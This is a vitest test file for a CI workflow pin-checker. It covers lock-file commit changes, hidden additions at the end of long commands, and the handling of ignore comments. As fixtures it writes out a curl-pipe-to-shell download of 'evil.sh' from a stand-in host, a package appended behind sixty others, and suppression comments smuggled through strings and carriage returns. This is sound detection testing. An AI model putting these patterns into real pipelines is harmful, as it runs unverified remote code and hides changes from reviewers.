// What the base commit had already sets nothing apart that is not the same.
import { DEFAULT_SETTINGS, UnavailableError } from "@lockstep/core";
import { checkPorts, memoryFiles, memoryGitHub } from "@lockstep/testkit";
import { describe, expect, it } from "vitest";
import { pinCheck } from "../src/program.ts";
import { lockOf } from "../src/rules/example-lock.ts";
import { CI, id, tool } from "./evidence-world.ts";

type Tree = Readonly<Record<string, string>>;

/** The rules that count against a change from `before` to `after`, with a baseline. */
async function judge(before: Tree, after: Tree): Promise<readonly string[]> {
  const settings = { ...DEFAULT_SETTINGS, baseline: "base-commit" } as const;
  const ports = checkPorts(memoryFiles(after), { settings, base: memoryFiles(before), github: memoryGitHub([tool()]) });
  return (await pinCheck({}, ports)).report.findings.map(({ ruleId }) => ruleId);
}

function run(command: string): Tree {
  return { [CI]: `jobs:\n  a:\n    runs-on: x\n    steps:\n      - run: ${command}\n` };
}

/** A workflow with `octo-org/tool@v1.0.1`, locked to a commit. */
function locked(commit: string): Tree {
  const lock = lockOf(["octo-org/tool@v1.0.1"]);
  const workflow = "jobs:\n  a:\n    runs-on: x\n    steps:\n      - uses: octo-org/tool@v1.0.1\n";
  return { [CI]: workflow, [lock.path]: lock.text.replace(/sha1-[0-9a-f]{40}/, `sha1-${commit}`) };
}

describe("with a baseline", () => {
  it("a lock that is moved from one wrong commit to another is a new finding", async () => {
    expect(await judge(locked(id("4")), locked(id("4")))).toEqual([]);
    expect(await judge(locked(id("4")), locked(id("f")))).toEqual(["lock-mismatch"]);
  });

  it("what is added behind the end of a long command is a new finding", async () => {
    const packages = Array.from({ length: 60 }, (_, index) => `package-${index}`).join(" ");
    const before = run(`pip install ${packages}`);
    expect(await judge(before, before)).toEqual([]);
    expect((await judge(before, run(`pip install ${packages} evil`))).length).toBeGreaterThan(0);
    const long = `https://downloads.example.test/${"a/".repeat(120)}`;
    const download = run(`curl ${long}good.sh | sh`);
    expect(await judge(download, download)).toEqual([]);
    expect(await judge(download, run(`curl ${long}evil.sh | sh`))).toEqual(["unverified-download"]);
  });
});

/** The verdict of pin-check on a change from `before` to `after`: with comments that count once they are merged. */
async function excuse(before: Tree, after: Tree, base = memoryFiles(before)): Promise<string> {
  const { report } = await pinCheck({}, checkPorts(memoryFiles(after), { base }));
  return report.verdict;
}

describe("an ignore comment", () => {
  const uses = (...lines: readonly string[]) =>
    `jobs:\n  a:\n    steps:\n${lines.map((line) => `      ${line}\n`).join("")}`;
  const excused = "- uses: a/b@v1 # lockstep: ignore[unpinned-action] ours";
  const bare = "- uses: a/b@v1";
  const above = "# lockstep: ignore[unpinned-action] ours";

  it.each<[string, Tree, Tree, string]>([
    ["that is merged, behind moved lines", { [CI]: uses(excused) }, { [CI]: uses("- run: x", "", excused) }, "pass"],
    [
      "that is merged, with other line ends",
      { [CI]: uses(excused) },
      { [CI]: uses(excused).replaceAll("\n", "\r\n") },
      "pass",
    ],
    ["copied with its line", { [CI]: uses(excused) }, { [CI]: uses(excused, excused) }, "fail"],
    ["carried to another file", { [CI]: uses(excused) }, { ".github/workflows/new.yml": uses(excused) }, "fail"],
    ["kept while the ref changes", { [CI]: uses(excused) }, { [CI]: uses(excused.replace("v1", "v2")) }, "fail"],
    [
      "kept while the owner's case changes",
      { [CI]: uses(excused) },
      { [CI]: uses(excused.replace("a/b", "A/b")) },
      "fail",
    ],
    ["new behind a line that was there", { [CI]: uses(bare) }, { [CI]: uses(excused) }, "fail"],
    ["new above a line that was there", { [CI]: uses(bare) }, { [CI]: uses(above, bare) }, "fail"],
    ["new in a block scalar", { [CI]: uses(bare) }, { [CI]: uses("- run: |", `    ${above}`, bare) }, "fail"],
    ["new in a string", { [CI]: uses(bare) }, { [CI]: uses(`- { name: "x ${above}", uses: a/b@v1 }`) }, "fail"],
    [
      "new behind a lone carriage return",
      { [CI]: uses(bare) },
      { [CI]: uses(`${bare} # x\r      ${above}`) },
      "incomplete",
    ],
    ["of a peer, new", { [CI]: uses(bare) }, { [CI]: uses(`${bare} # ratchet:exclude`) }, "fail"],
  ])("%s: the change is judged rightly", async (_case, before, after, verdict) => {
    expect(await excuse(before, after)).toBe(verdict);
  });

  it("counts for nothing where the base is not here", async () => {
    const refuse = () => Promise.reject(new UnavailableError("base-unavailable", "not here", { hint: "Fetch it." }));
    const { report } = await pinCheck(
      {},
      checkPorts(memoryFiles({ [CI]: uses(excused) }), { base: { list: refuse, readText: refuse } }),
    );
    expect([report.verdict, report.suppressed, report.notChecked.length]).toEqual(["fail", [], 1]);
  });
});
